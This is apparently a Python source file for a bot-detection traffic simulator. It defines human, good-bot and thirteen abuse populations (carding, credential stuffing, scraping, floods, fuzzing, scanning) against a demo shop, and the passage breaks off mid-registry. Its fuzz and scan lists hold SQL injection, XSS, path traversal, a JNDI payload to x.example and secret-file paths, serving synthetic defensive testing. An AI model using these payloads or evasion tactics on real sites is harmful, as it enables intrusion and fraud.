"""Every population the simulator knows: who they are (clients, networks, sophistication)
and what a session of theirs does on the demo shop.

`POPULATIONS` is the one registry. Humans browse; each of the seed's thirteen
false-negative subtypes has a bot population whose sessions perform that abuse, at
sophistication 1 (declared libraries) to 4 (stealth); good bots crawl and monitor.
"""

from __future__ import annotations

import functools
import random
import string
from collections.abc import Callable, Mapping
from dataclasses import dataclass, field
from urllib.parse import quote, urlencode

from botwarden.demo import catalog
from botwarden.simulate import profiles
from botwarden.simulate.clients import Client
from botwarden.simulate.sessions import Actor, Session

Behaviour = Callable[[Session], None]

# The seed's false-negative subtypes, in its order, as snake_case.
SUBTYPES: tuple[str, ...] = (
    "account_creation_abuse",
    "ad_fraud",
    "credit_card_abuse",
    "cashing_out",
    "login_abuse",
    "inventory_abuse",
    "denial_of_service",
    "expediting",
    "fuzzing",
    "scraping",
    "spamming",
    "token_cracking",
    "vulnerability_scanning",
)
LEVELS = (1, 2, 3, 4)
LEVEL_NAMES = {
    0: "not automated / good bot",
    1: "declared library or tool",
    2: "library spoofing a browser user agent",
    3: "headless browser",
    4: "stealth: browser-grade TLS and headers, residential proxies, human pacing",
}


@dataclass(frozen=True, slots=True)
class Population:
    name: str
    label: str  # human | bot
    group: str  # human | hard_human | abuse | verified_bot | ai_crawler | monitoring
    behaviour: Behaviour
    actors: Mapping[int, tuple[tuple[float, Actor], ...]]  # level → weighted actors
    levels: Mapping[int, float] = field(default_factory=lambda: {0: 1.0})
    subtype: str = ""
    sends: str = ""  # for docs/simulator.md: what its requests look like
    why: str = ""  # … and why that is realistic
    shared_addresses: int = 0  # >0: every session uses one of this many fixed addresses


def pick(rng: random.Random, weighted: tuple[tuple[float, Actor], ...]) -> Actor:
    x = rng.random() * sum(w for w, _ in weighted)
    for w, a in weighted:
        x -= w
        if x < 0:
            return a
    return weighted[-1][1]


def pick_client(rng: random.Random, clients: tuple[Client, ...]) -> Client:
    cum = _cumulative(clients)
    x = rng.random() * cum[-1]
    lo, hi = 0, len(cum) - 1
    while lo < hi:
        mid = (lo + hi) // 2
        if cum[mid] <= x:
            lo = mid + 1
        else:
            hi = mid
    return clients[lo]


@functools.lru_cache(maxsize=256)
def _cumulative(clients: tuple[Client, ...]) -> list[float]:
    out, total = [], 0.0
    for c in clients:
        total += c.weight
        out.append(total)
    return out


# -- the shop, as pages ---------------------------------------------------------------------

_FEATURED = tuple(catalog.product_image(p.id) for p in catalog.PRODUCTS[9:17])


def _product(rng: random.Random) -> int:
    """A product id, popular ones far more often (a heavy-tailed interest)."""
    n = len(catalog.PRODUCTS)
    return 1 + min(n - 1, int(n * rng.random() ** 2.5))


def _product_page(rng: random.Random, pid: int) -> tuple[str, tuple[str, ...]]:
    related = tuple(catalog.product_image(1 + (pid * 31 + k * 17) % len(catalog.PRODUCTS))
                    for k in range(4))  # fmt: skip
    return catalog.product_path(pid), (catalog.product_image(pid), *related)


def _category_page(
    rng: random.Random, slug: str, page: int = 1
) -> tuple[str, str, tuple[str, ...]]:
    ids = [p.id for p in catalog.PRODUCTS if p.category == slug]
    start = (page - 1) * 12
    imgs = tuple(catalog.product_image(i) for i in ids[start : start + 12])
    return f"/c/{slug}", ("" if page == 1 else f"page={page}"), imgs


def _search(rng: random.Random) -> tuple[str, tuple[str, ...]]:
    term = catalog.SEARCH_TERMS[rng.randrange(len(catalog.SEARCH_TERMS))]
    imgs = tuple(catalog.product_image(_product(rng)) for _ in range(8))
    return urlencode({"q": term}), imgs


# -- humans ----------------------------------------------------------------------------------

_FIRST = ("Emma", "Liam", "Olivia", "Noah", "Ava", "Lucas", "Mia", "Leon", "Sofia", "Hugo",
          "Chloe", "Mateo", "Yuki", "Anna", "Ben", "Lea", "Omar", "Ines", "Jonas")  # fmt: skip
_LAST = ("Smith", "Garcia", "Muller", "Martin", "Rossi", "Jansen", "Silva", "Sato", "Brown",
         "Dubois", "Weber", "Lopez", "Novak", "Kowalski", "Berg", "Moreau")  # fmt: skip
_DOMAINS = ("gmail.com", "yahoo.com", "outlook.com", "hotmail.com", "icloud.com", "gmx.de",
            "orange.fr", "web.de", "proton.me")  # fmt: skip


def _email(rng: random.Random, domains: tuple[str, ...] = _DOMAINS) -> str:
    first = _FIRST[rng.randrange(len(_FIRST))].lower()
    last = _LAST[rng.randrange(len(_LAST))].lower()
    sep = ("", ".", "_")[rng.randrange(3)]
    digits = str(rng.randrange(100)) if rng.random() < 0.6 else ""
    return f"{first}{sep}{last}{digits}@{domains[rng.randrange(len(domains))]}"


def _password(rng: random.Random) -> str:
    alphabet = string.ascii_letters + string.digits
    return "".join(rng.choice(alphabet) for _ in range(rng.randrange(8, 16)))


def _luhn_complete(digits: str) -> str:
    total = 0
    for i, ch in enumerate(reversed(digits)):
        d = int(ch)
        if i % 2 == 0:
            d = d * 2 - 9 if d > 4 else d * 2
        total += d
    return digits + str((10 - total % 10) % 10)


_BINS = ("411111", "400000", "455673", "476173", "522222", "545454", "510510", "379999", "601100")


def _card(rng: random.Random) -> str:
    bin_ = _BINS[rng.randrange(len(_BINS))]
    length = 15 if bin_.startswith("37") else 16
    body = bin_ + "".join(str(rng.randrange(10)) for _ in range(length - len(bin_) - 1))
    return _luhn_complete(body)


def _payment_body(rng: random.Random, card: str | None = None) -> str:
    return urlencode({
        "card_number": card or _card(rng),
        "exp": f"{rng.randrange(1, 13):02d}/{rng.randrange(26, 32)}",
        "cvc": f"{rng.randrange(1000):03d}",
        "name": f"{_FIRST[rng.randrange(len(_FIRST))]} {_LAST[rng.randrange(len(_LAST))]}",
        "zip": f"{rng.randrange(10000, 99999)}",
    })  # fmt: skip


def _login_body(email: str, password: str) -> str:
    return urlencode({"email": email, "password": password})


def _checkout(s: Session, rng: random.Random) -> None:
    s.think(6, 0.6)
    s.page("/checkout")
    s.think(25, 0.5)
    ok = rng.random() > 0.08
    s.post("/checkout/payment", _payment_body(rng), status=303 if ok else 402)
    if ok:
        s.page("/checkout/complete")


def shopper(s: Session) -> None:
    """A person shopping: a landing page, its assets, navigation with heavy-tailed pauses,
    sometimes a login, a cart, a purchase."""
    rng = s.rng
    x = rng.random()
    if x < 0.5:
        state = "home"
    elif x < 0.8:
        state = "product"
    elif x < 0.92:
        state = "category"
    else:
        state = "search"
    pages = 0
    cart = False
    while not s.over and pages < 60:
        pages += 1
        if state == "home":
            s.page("/", images=_FEATURED)
            state = _next(rng, (("category", 35), ("product", 30), ("search", 17),
                                ("login", 6), ("cart", 4), ("exit", 8)))  # fmt: skip
        elif state == "category":
            slug = catalog.CATEGORY_SLUGS[rng.randrange(len(catalog.CATEGORY_SLUGS) - 1)]
            path, query, imgs = _category_page(rng, slug, 1 if rng.random() < 0.8 else 2)
            s.page(path, query, images=imgs)
            state = _next(rng, (("product", 55), ("category", 10), ("search", 10),
                                ("home", 5), ("exit", 20)))  # fmt: skip
        elif state == "product":
            path, imgs = _product_page(rng, _product(rng))
            s.page(path, images=imgs)
            if rng.random() < 0.15:
                s.think(8, 0.6)
                pid = int(path.rsplit("/", 1)[1])
                s.post("/api/cart", f'{{"product_id":{pid},"qty":1}}', json=True)
                cart = True
            state = _next(rng, (("product", 25), ("cart", 12 if cart else 2), ("category", 15),
                                ("search", 10), ("home", 5), ("exit", 30)))  # fmt: skip
        elif state == "search":
            query, imgs = _search(rng)
            s.page("/search", query, images=imgs)
            state = _next(rng, (("product", 55), ("search", 15), ("category", 5), ("exit", 25)))
        elif state == "cart":
            s.page("/cart")
            if cart and rng.random() < 0.4:
                _checkout(s, rng)
                return
            state = _next(rng, (("product", 25), ("home", 10), ("exit", 65)))
        elif state == "login":
            s.page("/login")
            s.think(10, 0.5)
            ok = rng.random() < 0.9
            s.post("/login", _login_body(_email(rng), _password(rng)), status=303 if ok else 401)
            if ok:
                s.login()
                s.page("/account")
            state = _next(rng, (("home", 40), ("product", 30), ("exit", 30)))
        else:
            return
        s.think()


def _next(rng: random.Random, options: tuple[tuple[str, int], ...]) -> str:
    x = rng.random() * sum(w for _, w in options)
    for name, w in options:
        x -= w
        if x < 0:
            return name
    return options[-1][0]


def app_user(s: Session) -> None:
    """The shop's mobile app: JSON API only, a bearer token from the first call."""
    rng = s.rng
    s.credential = f"Bearer {rng.getrandbits(128):032x}"
    s.api("/api/products", "page=1")
    for _ in range(rng.randrange(3, 25)):
        s.think(6, 0.8)
        x = rng.random()
        if x < 0.5:
            s.api(f"/api/products/{_product(rng)}")
        elif x < 0.7:
            s.api("/api/search", urlencode({"q": catalog.SEARCH_TERMS[rng.randrange(20)]}))
        elif x < 0.85:
            s.api("/api/products", f"page={1 + rng.randrange(catalog.API_PAGES)}")
        elif x < 0.95:
            s.post("/api/cart", f'{{"product_id":{_product(rng)},"qty":1}}', json=True)
        else:
            s.api("/api/cart")


# -- abuse -----------------------------------------------------------------------------------


def _pause(s: Session, base: float) -> None:
    """Time between a bot's requests: mechanical at level 1, jittered at 2, page-paced at
    3, human-like (log-normal around a few seconds) at 4."""
    rng = s.rng
    if s.level <= 1:
        s.wait(base * rng.uniform(0.85, 1.15))
    elif s.level == 2:
        s.wait(base * rng.uniform(0.4, 2.5))
    elif s.level == 3:
        s.wait(base * rng.uniform(1.0, 3.0) + rng.uniform(0.2, 1.5))
    else:
        s.think(max(base * 4, 3.0), 0.7)


def _count(s: Session, low: int, high: int) -> int:
    return s.rng.randrange(low, high)


def account_creation_abuse(s: Session) -> None:
    rng = s.rng
    disposable = ("mailinator.com", "guerrillamail.com", "10minutemail.net", "yopmail.com",
                  "tempmail.dev", "sharklasers.com")  # fmt: skip
    for _ in range(_count(s, 3, 60) if s.level < 4 else _count(s, 1, 4)):
        if s.level >= 3:
            s.page("/signup")
            _pause(s, 2.0)
        email = _email(rng, disposable) if rng.random() < 0.7 else _email(rng)
        body = urlencode({"email": email, "password": _password(rng), "name": email.split("@")[0]})
        s.post("/signup", body, status=303 if rng.random() < 0.85 else 409)
        if s.level >= 3:
            s.page("/account")
        _pause(s, 1.5)
        if s.over:
            return


_PUBLISHERS = ("https://dailynews-today.example/", "https://celebgossip.example/",
               "https://recipes-hub.example/", "https://free-games-online.example/")  # fmt: skip


def ad_fraud(s: Session) -> None:
    rng = s.rng
    for _ in range(_count(s, 5, 120) if s.level < 4 else _count(s, 1, 6)):
        ad = catalog.ADS[rng.randrange(len(catalog.ADS))]
        pub = rng.randrange(1, 40)
        referer = _PUBLISHERS[rng.randrange(len(_PUBLISHERS))]
        s.request("document_cross", "/ads/click", f"ad={ad}&pub={pub}", status=302,
                  referer=referer if s.level >= 2 else None)  # fmt: skip
        if s.level >= 3:
            s.page_url = referer
            path, imgs = _product_page(rng, 10 + ad)
            s.page(path, images=imgs)
        _pause(s, 0.8)
        if s.level >= 3:
            s.page_url = None
            s.cached.clear()


def credit_card_abuse(s: Session) -> None:
    rng = s.rng
    gift = catalog.GIFT_CARD_IDS[0]
    if s.level >= 3:
        path, imgs = _product_page(rng, gift)
        s.page(path, images=imgs)
        _pause(s, 2.0)
    s.post("/api/cart", f'{{"product_id":{gift},"qty":1}}', json=True)
    if s.level >= 3:
        s.page("/checkout")
    card = _card(rng)
    for i in range(_count(s, 5, 150) if s.level < 4 else _count(s, 2, 8)):
        # Many cards, or one card with many expiry/CVC guesses.
        same = rng.random() < 0.3
        body = _payment_body(rng, card if same else None)
        s.post("/checkout/payment", body, status=303 if rng.random() < 0.04 else 402)
        _pause(s, 1.2)
        if s.over or (s.level >= 3 and i > 40):
            return


def cashing_out(s: Session) -> None:
    rng = s.rng
    email = list(catalog.ACCOUNTS)[rng.randrange(len(catalog.ACCOUNTS))]
    if s.level >= 3:
        s.page("/login")
        _pause(s, 2.0)
    s.post("/login", _login_body(email, catalog.ACCOUNTS[email]), status=303)
    s.login()
    if s.level >= 3:
        s.page("/account/gift-cards")
    else:
        s.request("document", "/account/gift-cards")
    _pause(s, 1.0)
    for code in sorted(catalog.GIFT_CARD_CODES)[: rng.randrange(1, 4)]:
        s.post("/gift-cards/redeem", urlencode({"code": code}), status=303)
        _pause(s, 1.0)
    for _ in range(rng.randrange(2, 6)):
        pid = catalog.GIFT_CARD_IDS[-1] if rng.random() < 0.6 else _product(rng)
        s.post("/api/cart", f'{{"product_id":{pid},"qty":{rng.randrange(1, 5)}}}', json=True)
        _pause(s, 0.8)
    s.post("/account/address", urlencode({
        "street": f"{rng.randrange(1, 999)} Warehouse Rd", "zip": f"{rng.randrange(10000, 99999)}",
        "city": "Reshipper"}), status=303)  # fmt: skip
    s.post("/checkout/payment", urlencode({"method": "store_credit"}), status=303)
    s.request("document", "/checkout/complete")


_LEAKED_PASSWORDS = ("123456", "password", "qwerty123", "iloveyou", "Summer2024!", "letmein",
                     "Passw0rd", "football", "monkey123", "dragon")  # fmt: skip


def login_abuse(s: Session) -> None:
    rng = s.rng
    api = s.level <= 2 and rng.random() < 0.3
    if s.level >= 3:
        s.page("/login")
    for i in range(_count(s, 10, 400) if s.level < 4 else _count(s, 1, 5)):
        if rng.random() < 0.004:
            email = list(catalog.ACCOUNTS)[rng.randrange(len(catalog.ACCOUNTS))]
            password, ok = catalog.ACCOUNTS[email], True
        else:
            email, ok = _email(rng), False
            password = _LEAKED_PASSWORDS[rng.randrange(len(_LEAKED_PASSWORDS))]
        if api:
            body = f'{{"email":"{email}","password":"{password}"}}'
            s.post("/api/login", body, json=True, status=200 if ok else 401)
        else:
            s.post("/login", _login_body(email, password), status=303 if ok else 401)
        if s.level >= 3 and not ok:
            s.page_url = s.url("/login")
        _pause(s, 0.6)
        if s.over or (s.level == 3 and i > 60):
            return


def inventory_abuse(s: Session) -> None:
    rng = s.rng
    pid = catalog.LIMITED_IDS[rng.randrange(len(catalog.LIMITED_IDS))]
    if s.level >= 3:
        path, imgs = _product_page(rng, pid)
        s.page(path, images=imgs)
    for _ in range(_count(s, 3, 40) if s.level < 4 else _count(s, 1, 4)):
        s.api(f"/api/stock/{pid}")
        _pause(s, 0.5)
        s.post("/api/cart", f'{{"product_id":{pid},"qty":{rng.randrange(2, 10)}}}', json=True,
               status=200 if rng.random() < 0.7 else 409)  # fmt: skip
        _pause(s, 3.0)
        if s.level < 3:
            s.credential = None  # a new cart: a fresh cookie jar holds more stock


def denial_of_service(s: Session) -> None:
    rng = s.rng
    for _ in range(_count(s, 100, 2000) if s.level < 4 else _count(s, 5, 40)):
        x = rng.random()
        status = 503 if rng.random() < 0.05 else 200
        if x < 0.6:
            q = "".join(rng.choice(string.ascii_lowercase) for _ in range(rng.randrange(3, 9)))
            query = urlencode({"q": q, "sort": "price_desc", "page": rng.randrange(1, 50)})
            s.request("document", "/search", query, status=status)
        elif x < 0.85:
            s.request("document", "/c/" + catalog.CATEGORY_SLUGS[rng.randrange(7)],
                      f"page={rng.randrange(1, 400)}", status=status)  # fmt: skip
        else:
            s.api("/api/products", f"page={rng.randrange(1, 5000)}&_={rng.getrandbits(32)}",
                  status=status)  # fmt: skip
        s.wait(rng.uniform(0.005, 0.05) if s.level < 4 else rng.uniform(0.05, 0.5))


def expediting(s: Session) -> None:
    rng = s.rng
    pid = catalog.LIMITED_IDS[rng.randrange(len(catalog.LIMITED_IDS))]
    polls = _count(s, 10, 300)
    for _i in range(polls):
        s.api(f"/api/stock/{pid}", status=200)
        s.wait(rng.uniform(0.2, 1.0) if s.level < 4 else rng.uniform(1.0, 4.0))
        if s.over:
            return
    # The drop opens: add, check out, pay within a second or two.
    s.post("/api/cart", f'{{"product_id":{pid},"qty":1}}', json=True)
    s.wait(rng.uniform(0.05, 0.3))
    if s.level >= 3:
        s.page("/checkout")
    else:
        s.request("document", "/checkout")
    s.wait(rng.uniform(0.1, 0.6))
    s.post("/checkout/payment", _payment_body(rng), status=303)
    s.request("document", "/checkout/complete")


_FUZZ = ("'", '"', "%00", "../../../../etc/passwd", "<script>alert(1)</script>", "{{7*7}}",
         "${jndi:ldap://x.example/a}", "A" * 2048, "-1", "99999999999999999999", "[]",
         "%ff%fe", "1 OR 1=1", "\\u0000", "NaN", "true", "%252e%252e%252f")  # fmt: skip
_FUZZ_JSON = ('{"product_id":"x","qty":1}', '{"product_id":1,"qty":-5}', '{"product_id":1',
              '[]', 'null', '{"product_id":1e309}', '{"__proto__":{"admin":true}}',
              '{"qty":' + "9" * 40 + "}")  # fmt: skip


def fuzzing(s: Session) -> None:
    rng = s.rng
    for _ in range(_count(s, 30, 600) if s.level < 4 else _count(s, 5, 30)):
        payload = _FUZZ[rng.randrange(len(_FUZZ))]
        x = rng.random()
        if x < 0.35:
            s.request("document", "/search", "q=" + quote(payload, safe=""), status=400)
        elif x < 0.55:
            s.api("/api/products/" + quote(payload, safe=""), status=404)
        elif x < 0.8:
            body = _FUZZ_JSON[rng.randrange(len(_FUZZ_JSON))]
            s.request("fetch_post", "/api/cart", body=body,
                      status=400 if rng.random() < 0.9 else 500)  # fmt: skip
        else:
            method = ("PUT", "DELETE", "PATCH", "OPTIONS", "TRACE")[rng.randrange(5)]
            s.request("fetch", "/api/cart", method=method, status=405)
        _pause(s, 0.15)


def scraping(s: Session) -> None:
    rng = s.rng
    if s.level <= 2 and rng.random() < 0.4:
        s.request("document", "/sitemap.xml")
        _pause(s, 0.3)
    api = s.level <= 2 and rng.random() < 0.35
    start = rng.randrange(1, len(catalog.PRODUCTS))
    n = _count(s, 30, 1500) if s.level < 4 else _count(s, 3, 25)
    for i in range(n):
        pid = 1 + (start + i) % len(catalog.PRODUCTS) if s.level < 4 else _product(rng)
        if api:
            if i % 24 == 0:
                s.api("/api/products", f"page={1 + (i // 24) % catalog.API_PAGES}")
            else:
                s.api(f"/api/products/{pid}")
        else:
            path, imgs = _product_page(rng, pid)
            s.page(path, images=imgs)
        _pause(s, 0.5)
        if s.over:
            return


_SPAM = ("Best replica watches at https://cheap-watches.example !!!",
         "Earn $5000/week from home, visit https://quick-cash.example",
         "CRYPTO GIVEAWAY http://bit.example/x doubled instantly",
         "nice product <a href=https://pills.example>buy now</a>",
         "Great post. Check my profile https://dating.example/profile?id=1")  # fmt: skip


def spamming(s: Session) -> None:
    rng = s.rng
    for _ in range(_count(s, 3, 80) if s.level < 4 else _count(s, 1, 3)):
        text = _SPAM[rng.randrange(len(_SPAM))]
        pid = _product(rng)
        if rng.random() < 0.6:
            if s.level >= 3:
                path, imgs = _product_page(rng, pid)
                s.page(path, images=imgs)
                _pause(s, 3.0)
            body = urlencode({"rating": 5, "title": text[:20], "body": text})
            s.post(f"/products/{pid}/reviews", body, status=303)
        else:
            if s.level >= 3:
                s.page("/contact")
                _pause(s, 3.0)
            body = urlencode({"email": _email(rng), "message": text})
            s.post("/contact", body, status=303)
        _pause(s, 1.0)


def _code(rng: random.Random) -> str:
    alphabet = string.ascii_uppercase + string.digits
    a, b = ("".join(rng.choice(alphabet) for _ in range(4)) for _ in range(2))
    return f"GIFT-{a}-{b}"


def token_cracking(s: Session) -> None:
    rng = s.rng
    coupons = rng.random() < 0.4
    if s.level >= 3:
        s.page("/cart" if coupons else "/gift-cards")
    for _ in range(_count(s, 20, 800) if s.level < 4 else _count(s, 2, 10)):
        if coupons:
            code = "".join(rng.choice(string.ascii_uppercase) for _ in range(rng.randrange(5, 9)))
            code += str(rng.randrange(5, 60, 5))
            ok = code in catalog.COUPON_CODES
            s.api("/api/coupons/validate", f"code={code}", status=200 if ok else 404)
        else:
            code = _code(rng)
            s.post("/gift-cards/check", urlencode({"code": code}), json=False,
                   status=200 if code in catalog.GIFT_CARD_CODES else 404)  # fmt: skip
        _pause(s, 0.3)
        if s.over:
            return


_SCAN_PATHS = ("/.env", "/.git/config", "/.git/HEAD", "/wp-admin/", "/wp-login.php",
               "/xmlrpc.php", "/wp-content/plugins/revslider/readme.txt", "/phpmyadmin/",
               "/pma/", "/admin", "/admin/login", "/administrator/", "/server-status",
               "/.aws/credentials", "/config.php.bak", "/backup.zip", "/db.sql", "/.DS_Store",
               "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php", "/cgi-bin/luci",
               "/actuator/env", "/actuator/health", "/api/v1/debug", "/console", "/.svn/entries",
               "/solr/admin/info/system", "/owa/auth/logon.aspx", "/boaform/admin/formLogin",
               "/HNAP1/", "/_ignition/execute-solution", "/telescope/requests",
               "/.well-known/security.txt", "/robots.txt", "/sitemap.xml", "/web.config",
               "/index.php?s=/index/think\\app/invokefunction", "/shell.php", "/wso.php",
               "/.htaccess", "/config.json", "/debug/pprof/", "/jenkins/login")  # fmt: skip


def vulnerability_scanning(s: Session) -> None:
    rng = s.rng
    paths = list(_SCAN_PATHS)
    rng.shuffle(paths)
    n = len(paths) if s.level < 4 else rng.randrange(2, 8)
    for path in paths[:n]:
        base, _, query = path.partition("?")
        found = base in ("/robots.txt", "/sitemap.xml", "/.well-known/security.txt")
        s.request("document", base, query, status=200 if found else 404)
        _pause(s, 0.2)
        if s.over:
            return
    for _ in range(rng.randrange(0, 20) if s.level < 4 else 0):
        inj = ("1' OR '1'='1", "1; DROP TABLE users--", "<svg onload=alert(1)>", "../etc/passwd")
        s.request("document", "/search", "q=" + quote(inj[rng.randrange(4)], safe=""),
                  status=200)  # fmt: skip
        _pause(s, 0.2)


BEHAVIOURS: dict[str, Behaviour] = {
    "account_creation_abuse": account_creation_abuse,
    "ad_fraud": ad_fraud,
    "credit_card_abuse": credit_card_abuse,
    "cashing_out": cashing_out,
    "login_abuse": login_abuse,
    "inventory_abuse": inventory_abuse,
    "denial_of_service": denial_of_service,
    "expediting": expediting,
    "fuzzing": fuzzing,
    "scraping": scraping,
    "spamming": spamming,
    "token_cracking": token_cracking,
    "vulnerability_scanning": vulnerability_scanning,
}


# -- good bots --------------------------------------------------------------------------------


def crawler(s: Session) -> None:
    """A search or AI crawler: robots.txt first, the sitemap, then pages at its crawl rate."""
    rng = s.rng
    polite = s.population != "ai_crawler" or rng.random() < 0.5
    if polite:
        s.request("document", "/robots.txt")
        s.wait(rng.uniform(0.5, 3.0))
        s.request("document", "/sitemap.xml")
    delay = rng.uniform(2.0, 12.0) if polite else rng.uniform(0.2, 1.5)
    for _ in range(rng.randrange(10, 200)):
        s.wait(delay * rng.uniform(0.5, 1.5))
        x = rng.random()
        if x < 0.75:
            s.request("document", catalog.product_path(1 + rng.randrange(len(catalog.PRODUCTS))))
        elif x < 0.95:
            s.request("document", "/c/" + catalog.CATEGORY_SLUGS[rng.randrange(8)])
        else:
            s.request("document", "/")
        if s.over:
            return


def monitor(s: Session) -> None:
    """An uptime check from a fixed address every one or five minutes, for an hour."""
    rng = s.rng
    interval = 60.0 if rng.random() < 0.6 else 300.0
    path = "/" if rng.random() < 0.7 else "/healthz"
    method = "HEAD" if rng.random() < 0.3 else "GET"
    for _ in range(int(3600 / interval)):
        s.request("document", path, method=method)
        s.wait(interval + rng.uniform(-0.5, 0.5))
        if s.over:
            return


# -- the registry ------------------------------------------------------------------------------


def _human(clients: tuple[Client, ...], network: str = "residential", **kw: float) -> (
    tuple[tuple[float, Actor], ...]
):  # fmt: skip
    return ((1.0, Actor(clients=clients, network=network, **kw)),)  # type: ignore[arg-type]


def _abuse_actors(
    level1: tuple[Client, ...], *, cookies_at_1: bool = False
) -> dict[int, tuple[tuple[float, Actor], ...]]:
    stealth = Actor(clients=profiles.family("chrome_desktop"), network="residential",
                    rotate=3.0, landing_cross=0.3)  # fmt: skip
    cheap = Actor(clients=profiles.impersonators(), network="residential", assets=False,
                  rotate=2.0, referers=False)  # fmt: skip
    return {
        1: (
            (
                1.0,
                Actor(
                    clients=level1,
                    network="hosting",
                    assets=False,
                    cookies=cookies_at_1,
                    referers=False,
                ),
            ),
        ),
        2: (
            (
                0.7,
                Actor(
                    clients=profiles.spoofing_libraries(),
                    network="hosting",
                    assets=False,
                    referers=False,
                ),
            ),
            (
                0.3,
                Actor(
                    clients=profiles.spoofing_libraries(),
                    network="residential",
                    assets=False,
                    referers=False,
                    rotate=20.0,
                ),
            ),
        ),
        3: ((1.0, Actor(clients=profiles.headless(), network="hosting", landing_cross=0.0)),),
        4: ((0.5, stealth), (0.5, cheap)),
    }


_ABUSE: dict[str, tuple[dict[int, float], str, str]] = {
    "account_creation_abuse": ({1: 0.25, 2: 0.3, 3: 0.25, 4: 0.2},
        "GET /signup, POST /signup with throwaway and look-alike e-mails, 303/409",
        "sign-up farms post many accounts per worker; careful ones one per residential IP"),
    "ad_fraud": ({1: 0.2, 2: 0.3, 3: 0.25, 4: 0.25},
        "GET /ads/click?ad=&pub= from publisher referers (302), landing page and bounce",
        "click fraud inflates publishers' clicks; stealthy farms use residential proxies"),
    "credit_card_abuse": ({1: 0.2, 2: 0.3, 3: 0.2, 4: 0.3},
        "a gift card in the cart, then POST /checkout/payment with many Luhn-valid cards "
        "(or one card, many CVC/expiry guesses), mostly 402",
        "carding validates stolen cards on a cheap item at the payment step"),
    "cashing_out": ({1: 0.15, 2: 0.3, 3: 0.25, 4: 0.3},
        "login with a valid account, redeem gift cards, fill the cart with resellable "
        "goods, change the shipping address, pay with store credit",
        "account takeover turns stored value into goods shipped to a reshipper"),
    "login_abuse": ({1: 0.3, 2: 0.3, 3: 0.15, 4: 0.25},
        "POST /login (or /api/login JSON) with many e-mails and leaked passwords, 401 "
        "with rare 303 successes",
        "credential stuffing replays breached lists; stealth rotates one try per IP"),
    "inventory_abuse": ({1: 0.3, 2: 0.3, 3: 0.2, 4: 0.2},
        "polls /api/stock/<limited id>, adds many units of limited drops to fresh carts",
        "denial-of-inventory holds scarce stock in carts that never check out"),
    "denial_of_service": ({1: 0.4, 2: 0.3, 3: 0.1, 4: 0.2},
        "floods of cache-busting /search?q=<random>&sort=price_desc, deep /c/<cat>?page=N, "
        "/api/products?page=N&_=<rand>, some 503",
        "layer-7 floods aim at uncacheable, expensive pages"),
    "expediting": ({1: 0.25, 2: 0.3, 3: 0.2, 4: 0.25},
        "polls /api/stock/<limited id> every 0.2–1 s, then cart, checkout and payment "
        "within a second or two",
        "sneaker/ticket bots race humans to limited drops"),
    "fuzzing": ({1: 0.6, 2: 0.25, 3: 0.1, 4: 0.05},
        "malformed queries and JSON (quotes, NUL, traversal, template and JNDI payloads), "
        "odd methods on /api/cart, 400/404/405/500",
        "fuzzers inject malformed data to find implementation bugs"),
    "scraping": ({1: 0.35, 2: 0.25, 3: 0.15, 4: 0.25},
        "sitemap, then every /products/<id> in order or /api/products?page=N; stealth "
        "visits a few popular pages per residential IP",
        "price and catalogue scrapers walk the whole catalogue"),
    "spamming": ({1: 0.35, 2: 0.3, 3: 0.2, 4: 0.15},
        "POST /products/<id>/reviews and /contact with link spam",
        "spam bots abuse any open text form"),
    "token_cracking": ({1: 0.35, 2: 0.3, 3: 0.1, 4: 0.25},
        "POST /gift-cards/check with GIFT-XXXX-XXXX guesses or GET /api/coupons/validate"
        "?code=, nearly all 404",
        "gift-card and coupon enumeration looks for valid codes"),
    "vulnerability_scanning": ({1: 0.6, 2: 0.25, 3: 0.05, 4: 0.1},
        "GET /.env, /.git/config, /wp-admin/, /phpmyadmin/, /actuator/env, … (404) and "
        "SQL/XSS probes on /search",
        "scanners enumerate the paths of known vulnerable software"),
}  # fmt: skip
_LEVEL1: dict[str, Callable[[], tuple[Client, ...]]] = {
    "login_abuse": profiles.login_tools,
    "scraping": profiles.scraper_libraries,
    "fuzzing": profiles.scanners,
    "vulnerability_scanning": profiles.scanners,
}


@functools.cache
def populations() -> dict[str, Population]:
    """Name → Population. Built on first use (it loads the browser data)."""
    p = profiles
    out: list[Population] = []

    def human(name: str, clients: tuple[Client, ...], sends: str, why: str,
              network: str = "residential", group: str = "human", behaviour: Behaviour = shopper,
              shared: int = 0, **kw: float) -> None:  # fmt: skip
        out.append(Population(name, "human", group, behaviour, {0: _human(clients, network, **kw)},
                              sends=sends, why=why, shared_addresses=shared))  # fmt: skip

    browsers = "header-generator's real builds; captured header order and TLS per version"
    human(
        "chrome_desktop",
        p.family("chrome_desktop"),
        "Chrome (and Brave) on Windows, macOS, Linux: client hints, Sec-Fetch-*, Chromium's "
        "order for each request kind, HTTP/2 priority; JA4 of curl_cffi's Chrome target",
        browsers,
    )
    human(
        "chrome_android",
        p.family("chrome_android"),
        "Chrome on Android, mobile hints",
        browsers,
        network="mobile",
    )
    human(
        "safari_mac",
        p.family("safari_mac"),
        "Safari on macOS 15–26: WebKit's order, no hints",
        browsers,
    )
    human(
        "safari_ios",
        p.family("safari_ios"),
        "Safari (and Chrome/iOS) on iPhone: WebKit",
        browsers,
        network="mobile",
    )
    human(
        "firefox",
        p.family("firefox"),
        "Firefox desktop and Android: Gecko order, TE trailers",
        browsers,
    )
    human(
        "edge", p.family("edge"), "Edge: Chromium's headers with Microsoft Edge's brand", browsers
    )
    human(
        "samsung_internet",
        p.samsung_internet(),
        "Samsung Internet 27 (Chromium 125): reduced UA and its own brand in hints",
        "the default browser of Galaxy phones",
        network="mobile",
    )
    human(
        "in_app_webview",
        p.in_app_webviews(),
        "Facebook's Android WebView (wv, X-Requested-With) and Instagram's WKWebView",
        "a large share of mobile visits arrive inside social apps",
        network="mobile",
    )
    human(
        "novel_browser",
        p.novel_browsers(),
        "Firefox on FreeBSD, Debian Chromium 156 on Linux/aarch64: real TLS, consistent headers",
        "the seed's false positive: a browser and OS combination never seen before",
        group="hard_human",
    )
    human(
        "corporate_proxy",
        p.family("chrome_desktop")[:40] + p.family("edge") + p.tls_inspecting_proxy(),
        "many employees behind a few egress IPs; some through a TLS-inspecting proxy "
        "(OpenSSL handshake, HTTP/1.1, Via)",
        "one IP with hundreds of people, a browser UA over a non-browser TLS stack",
        network="corporate",
        group="hard_human",
        shared=4,
    )
    human(
        "privacy_browser",
        p.privacy_browsers(),
        "Tor Browser (Windows UA everywhere, Sec-GPC, exit IPs), hardened Firefox (DNT, "
        "GPC), Brave",
        "privacy tools make people look uniform or unusual",
        network="hosting",
